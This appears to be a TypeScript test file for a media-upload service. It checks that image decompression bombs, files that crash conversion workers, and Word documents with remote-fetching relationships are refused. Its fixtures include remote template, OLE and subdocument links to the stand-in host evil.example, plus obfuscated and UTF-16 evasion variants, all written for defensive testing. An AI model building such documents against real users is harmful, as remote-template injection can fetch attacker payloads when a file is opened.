import { createHash } from 'node:crypto';
import { imageUnreadable, notADocument } from '@plyhaat/contract/media/media';
import { afterAll, afterEach, expect, test, vi } from 'vitest';
import { WorkerEnded } from '#platform/workers/worker.ts';
import { testApp } from '#test/app.ts';
import { someMember } from '#test/builders.ts';
import { relationship, someDocx, somePng } from '#test/memory-bombs.ts';
import { somePhoto, upload, uploaded } from '#test/uploads.ts';
import { openConversions } from '../conversions.service.ts';
import { isHarmful } from '../harmful.sql.ts';
import { selectMedia } from '../media.sql.ts';

const conversions = openConversions();
const app = await testApp({ conversions });
afterAll(async () => {
  await app.close();
  conversions.close();
});
const asha = await someMember(app.db);
const run = vi.spyOn(conversions, 'run');
afterEach(() => run.mockReset());

const kindsRun = () => run.mock.calls.map(([task]) => (task as { kind: string }).kind);
const digestOf = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const endAtEncoding = () =>
  run.mockImplementation(async (task) => {
    const { kind } = task as { kind: string };
    if (kind !== 'head') throw new WorkerEnded('a worker ended with SIGKILL');
    return { width: 300, height: 200, frames: 1, bytes: 180_000 };
  });

test.each([
  ['a side of 16,385 px', somePng({ width: 16_385, height: 1 })],
  ['2,500,000 × 4 px with 16 bits a channel', somePng({ width: 2_500_000, height: 4, depth: 16, colour: 2 })],
  ['4,500² px with 16 bits a channel and alpha', somePng({ width: 4500, height: 4500, depth: 16, colour: 6 })],
])('a picture with %s is refused by its head, before anything of it is decoded', async (_name, bytes) => {
  const reply = await upload(app, 'profile', bytes);
  expect([reply.statusCode, reply.json().message]).toEqual([422, imageUnreadable.message]);
  expect(kindsRun()).toEqual(['head']);
});

test('a picture of 16,384 px on a side is taken', async () => {
  const wide = await uploaded(app, 'product', somePng({ width: 16_384, height: 100, colour: 2 }), asha);
  expect(wide).toMatchObject({ state: 'ready', width: 2560 });
});

test('a file that ended a worker is refused, and no process opens it again', async () => {
  const photo = await somePhoto(300, 200).jpeg().toBuffer();
  endAtEncoding();
  const first = await upload(app, 'product', photo, asha);
  expect([first.statusCode, first.json().message]).toEqual([422, imageUnreadable.message]);
  expect(await isHarmful(app.db, digestOf(photo))).toBe(true);

  run.mockReset();
  const beside = await testApp({ beside: app, conversions });
  for (const each of [app, beside]) expect((await upload(each, 'product', photo, asha)).statusCode).toBe(422);
  expect(run).not.toHaveBeenCalled();
  expect((await upload(beside, 'product', await somePhoto(301, 200).jpeg().toBuffer(), asha)).statusCode).toBe(200);
  await beside.close();
});

test('a file that the job cannot make whole keeps its draft, and is not opened again either', async () => {
  const large = await somePhoto(2500, 2000).jpeg({ quality: 20 }).toBuffer();
  const sent = await uploaded(app, 'product', large, asha);
  expect(sent).toMatchObject({ width: 1280, height: 1024 });
  run.mockImplementationOnce(async () => ({ width: 2500, height: 2000, frames: 1, bytes: 15_000_000 }));
  run.mockImplementationOnce(async () => {
    throw new WorkerEnded('a worker ended with SIGKILL');
  });
  await app.settle();
  expect(await selectMedia(app.db, sent._id)).toMatchObject({ draft: false, width: 1280, avif: true });
  expect(await isHarmful(app.db, digestOf(large))).toBe(true);
  expect(await app.deps.files.has(`incoming/${sent._id}`)).toBe(false);
  expect((await app.app.inject({ url: sent.address })).statusCode).toBe(200);
  run.mockClear();
  expect((await upload(app, 'product', large, asha)).statusCode).toBe(422);
  expect(run).not.toHaveBeenCalled();
});

const LOCAL = [
  relationship('attachedTemplate', 'file:///C:\\Users\\asha\\Templates\\Quote.dotx'),
  relationship('attachedTemplate', 'Normal.dotm'),
  relationship('hyperlink', 'https://plyhaat.example/shop'),
];
const REMOTE = [
  relationship('attachedTemplate', 'https://evil.example/a.dotm'),
  relationship('attachedTemplate', 'https://evil.example/a.dotm', ''),
  relationship('attachedTemplate', '&#104;ttp://evil.example/a.dotm'),
  relationship('attachedTemplate', '\\\\evil.example\\share\\a.dotm'),
  relationship('attachedTemplate', 'file://evil.example/share/a.dotm'),
  relationship('oleObject', 'https://evil.example/a.html'),
  relationship('subDocument', 'https://evil.example/a.docx'),
].map((text) => [text] as const);

test('a Word file with links and a template of its own computer is taken', async () => {
  expect((await upload(app, 'document', someDocx(LOCAL.join('')), asha)).statusCode).toBe(200);
});

test.each(REMOTE)(
  'a Word file that would fetch something when it is opened is refused like macros: %s',
  async (text) => {
    const reply = await upload(app, 'document', someDocx(LOCAL.join('') + text), asha);
    expect([reply.statusCode, reply.json().message]).toEqual([415, notADocument.message]);
  },
);

test('a Word file whose relationships are written in another way than plain UTF-8 is refused', async () => {
  const remote = `<Relationships>${REMOTE[0]?.[0]}</Relationships>`;
  const wide = { name: 'word/_rels/document.xml.rels', bytes: Buffer.from(`\ufeff${remote}`, 'utf16le') };
  expect((await upload(app, 'document', someDocx('', [wide]), asha)).statusCode).toBe(415);
});
